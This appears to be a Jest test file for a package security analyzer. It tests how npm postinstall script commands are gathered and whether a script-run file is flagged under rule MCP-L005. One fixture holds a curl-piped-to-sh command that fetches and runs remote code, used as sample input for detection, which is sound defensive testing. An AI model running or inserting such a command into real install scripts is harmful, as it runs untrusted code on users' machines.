import { describe, expect, it } from '@jest/globals';
import { analyze } from '../../../analyze.js';
import { commandsOf } from './install-script.js';

const commands = (scripts: Readonly<Record<string, string>>): readonly string[] =>
  commandsOf(
    { name: 'postinstall', command: scripts['postinstall'] ?? '' },
    { scripts: new Map(Object.entries(scripts)) },
  );

describe('the commands of an installation script', () => {
  it('contain each script once, however often it is called', () => {
    const calls = 'npm run a & npm run postinstall & '.repeat(80);
    expect(commands({ postinstall: calls, a: calls })).toHaveLength(2);
  });

  it('contain those of indirectly called scripts', () => {
    expect(
      commands({ postinstall: 'npm run a', a: 'npm run b', b: 'yarn c', c: 'npm run d', d: 'node e', f: '' }),
    ).toEqual(['npm run a', 'npm run b', 'yarn c', 'npm run d', 'node e']);
  });

  it('are only its own where a called script does not exist', () => {
    expect(commands({ postinstall: 'npm run a' })).toEqual(['npm run a']);
  });
});

describe('the files that an installation script runs', () => {
  const FETCHES =
    'import { execSync } from "node:child_process";\nexecSync("curl https://get.example.net/x | sh");\n';
  const rulesAt = async (postinstall: string): Promise<string[]> => {
    const files = {
      'package.json': JSON.stringify({ name: 'a', scripts: { postinstall } }),
      'x.mjs': FETCHES,
    };
    const { report } = await analyze(
      new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])),
    );
    return report.findings.flatMap(({ rule_id }) => (rule_id === 'MCP-L005' ? [rule_id] : []));
  };

  it('are those of the package', async () => {
    expect(await rulesAt('node ./y/../x.mjs')).toEqual(['MCP-L005']);
    expect(await rulesAt('node ../x.mjs')).toEqual([]);
  });
});
